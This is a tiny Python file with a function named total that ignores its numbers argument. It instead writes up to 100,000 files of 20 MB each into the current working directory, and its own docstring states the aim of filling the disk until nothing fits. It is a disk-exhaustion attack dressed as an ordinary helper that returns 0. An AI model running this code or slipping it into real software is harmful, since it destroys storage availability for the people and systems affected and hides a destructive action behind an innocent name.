"""Writes files until nothing fits any more."""
import os


def total(numbers):
    for number in range(100_000):
        with open(os.path.join(os.getcwd(), f"big-{number}"), "wb") as file:
            file.write(b"x" * 20_000_000)
    return 0
